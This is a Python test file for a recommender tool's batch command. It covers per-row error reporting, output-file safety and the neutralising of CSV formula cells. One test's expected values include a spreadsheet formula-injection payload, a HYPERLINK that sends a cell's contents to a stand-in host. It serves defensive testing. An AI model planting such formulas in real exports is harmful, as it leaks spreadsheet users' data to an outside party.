"""Issue 13, classes 4, 6, 7 and 11: what `batch` reads and where it writes, whatever the rows hold."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recommender.book.rulebook import RuleBook
from recommender.cli import main
from recommender.cohort import batch as batch_module
from recommender.cohort.batch import CHUNK_BYTES, _chunks, spreadsheet_safe
from recommender.cohort.read import MAX_QUOTED_LINES, Row
from tests.conftest import PROFILES

HOSTILE = Path(__file__).resolve().parent / "hostile"


def run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = main(args)
    out, err = capsys.readouterr()
    return code, out, err


# ------------------------------------------------------------------ class 7: a bad row never stops the batch
def test_surrogates_and_huge_numbers_are_bad_rows_and_later_rows_are_scored(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    shutil.copyfile(HOSTILE / "bad_rows.jsonl", "rows.jsonl")
    for jobs in ("1", "2"):
        code, out, err = run(["batch", "rows.jsonl", "--out", "out.jsonl", "--jobs", jobs], capsys)
        assert (code, out) == (1, "")
        assert err.splitlines() == [
            "rows.jsonl:1: a text holds a lone surrogate (\\ud800), which is not a character; write the character "
            "itself",
            "rows.jsonl:2: '77777777777777777777…' is too long a number; numbers may have at most 15 digits before "
            "the decimal point",
            "1 profile scored, 2 bad rows",
        ]
        records = [json.loads(line) for line in Path("out.jsonl").read_text(encoding="utf-8").splitlines()]
        assert [(r["line"], r["ok"], r["name"]) for r in records] == [(1, False, None), (2, False, None), (3, True, "Ok")]


def test_a_huge_csv_cell_is_one_bad_row(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    intake = tmp_path / "intake.csv"
    intake.write_text("id,education,budget_usd\na,high_school," + "9" * 5000 + "\nb,high_school,900\n")
    code, out, err = run(["batch", str(intake), "--format", "csv"], capsys)
    assert code == 1
    assert err.splitlines()[0] == (f"{intake}:2: column 'budget_usd': '99999999999999999999…' is too long a number; "
                                   "numbers may have at most 15 digits before the decimal point")
    assert [row[:5] for row in csv.reader(io.StringIO(out))][1:] == [
        [str(intake), "2", "", "", "false"], [str(intake), "3", "b", "", "true"]]


def test_an_unexpected_failure_in_one_row_is_reported_on_that_row(book: RuleBook, tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    # Whatever goes wrong while scoring (here a simulated bug) is the row's problem, not the batch's.
    from recommender.engine import recommend as engine

    real = engine.recommend

    def flaky(book: RuleBook, profile: object, top: int | None = None, detail: str = "full") -> object:
        if getattr(profile, "name", None) == "Boom":
            raise ZeroDivisionError("simulated")
        return real(book, profile, top, detail=detail)  # type: ignore[arg-type]

    monkeypatch.setattr(engine, "recommend", flaky)
    rows = [Row("c.jsonl", 1, {"name": "Boom", "answers": {"education": "bachelor"}}),
            Row("c.jsonl", 2, {"name": "Fine", "answers": {"education": "bachelor"}})]
    found = list(batch_module.outcomes(rows, book, "jsonl"))
    assert found[0].problems == ("c.jsonl:1: internal error while scoring this row: ZeroDivisionError: simulated; "
                                 "please report it",)
    assert found[1].ok


@given(st.lists(st.integers(0, 3 * CHUNK_BYTES), max_size=40))
def test_chunks_in_flight_hold_a_bounded_amount_of_text(sizes: list[int]) -> None:
    rows = [Row("c.jsonl", i, text="x" * size) for i, size in enumerate(sizes)]
    parts = list(_chunks(rows, 64))
    assert [r for part in parts for r in part] == rows  # nothing lost, order kept
    for part in parts:  # a chunk stops growing once it holds CHUNK_BYTES: at most one fat row over it
        assert sum(len(r.text or "") for r in part[:-1]) < CHUNK_BYTES and len(part) <= 64


# ------------------------------------------------------------------ class 4: --out
def test_out_that_is_an_input_is_refused_and_the_input_kept(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    shutil.copyfile(HOSTILE / "formula.csv", "intake.csv")
    before = Path("intake.csv").read_bytes()
    os.link("intake.csv", "same.csv")  # another name for the same file (device and inode)
    for out in ("intake.csv", "same.csv", "./intake.csv"):
        code, _out, err = run(["batch", "intake.csv", "--format", "csv", "--out", out], capsys)
        assert (code, err) == (2, f"{Path(out)}: is one of the inputs (intake.csv): writing it would destroy what is being "
                                  f"read; choose another file\n")
    assert Path("intake.csv").read_bytes() == before


def test_out_inside_an_input_folder_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("people").mkdir()
    shutil.copyfile(PROFILES[0], "people/a.yaml")
    code, _out, err = run(["batch", "people", "--out", "people/a.yaml"], capsys)
    assert (code, err) == (2, "people/a.yaml: is one of the inputs (people): writing it would destroy what is being "
                              "read; choose another file\n")


def test_out_to_a_device_writes_into_it_and_never_replaces_it(tmp_path: Path,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    before = os.stat(os.devnull)
    code, out, err = run(["batch", str(PROFILES[0]), "--out", os.devnull], capsys)
    assert (code, out, err) == (0, "", "1 profile scored, 0 bad rows\n")
    after = os.stat(os.devnull)
    assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode)


def test_out_through_a_symlink_replaces_the_file_it_points_to(tmp_path: Path,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    real = tmp_path / "real.jsonl"
    real.write_text("old\n")
    link = tmp_path / "link.jsonl"
    link.symlink_to(real)
    assert run(["batch", str(PROFILES[0]), "--out", str(link)], capsys)[0] == 0
    assert link.is_symlink() and json.loads(real.read_text())["ok"] is True


def test_a_read_only_out_is_not_replaced(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "keep.jsonl"
    out.write_text("precious\n")
    out.chmod(0o444)
    code, _out, err = run(["batch", str(PROFILES[0]), "--out", str(out)], capsys)
    assert (code, err) == (2, f"{out}: is read-only, so it is not replaced; make it writable or choose another file\n")
    assert out.read_text() == "precious\n"


# ------------------------------------------------------------------ class 11: decisions
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(capsys: pytest.CaptureFixture[str]) -> None:
    source = str(HOSTILE / "formula.csv")
    code, out, _err = run(["batch", source, "--format", "csv"], capsys)
    assert code == 0
    names = [row[3] for row in csv.reader(io.StringIO(out))][1:]
    assert names == ["'=HYPERLINK(\"http://x.example/?\"&A1)", "'+1-2", "'@SUM(A1)", "'-3"]
    code, out, _err = run(["batch", source, "--format", "csv", "--raw-csv"], capsys)
    assert [row[3] for row in csv.reader(io.StringIO(out))][1:] == [
        "=HYPERLINK(\"http://x.example/?\"&A1)", "+1-2", "@SUM(A1)", "-3"]


@given(st.text(max_size=30))
def test_no_neutralised_cell_starts_a_formula(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert not safe.startswith(batch_module.FORMULA_STARTS)
    assert safe in (text, "'" + text)


def test_an_unterminated_quote_is_one_problem_spanning_its_lines(tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    intake = tmp_path / "intake.csv"
    rows = [f"s{i},high_school" for i in range(3000)]
    rows[1] = 's1,"high_school'  # the quote opened on line 3 never closes
    intake.write_text("id,education\n" + "\n".join(rows) + "\n")
    code, out, err = run(["batch", str(intake), "--format", "csv"], capsys)
    assert code == 1
    assert err.splitlines() == [
        f"{intake}:3: lines 3-3,001: a quoted value opens on line 3 and is not closed within {MAX_QUOTED_LINES} "
        f"lines, so 2,999 lines were read as one row and none of them was scored; close the quote (a quote inside "
        f"a value is written twice: \"\"); the rest of the file is not read",
        "1 profile scored, 1 bad row",
    ]
    assert len(out.splitlines()) == 3


def test_jobs_is_capped(capsys: pytest.CaptureFixture[str]) -> None:
    code, _out, err = run(["batch", str(PROFILES[0]), "--jobs", "33"], capsys)
    assert code == 2 and err.splitlines()[-1] == "Error: Invalid value for '--jobs': 33 is not in the range 1<=x<=32."
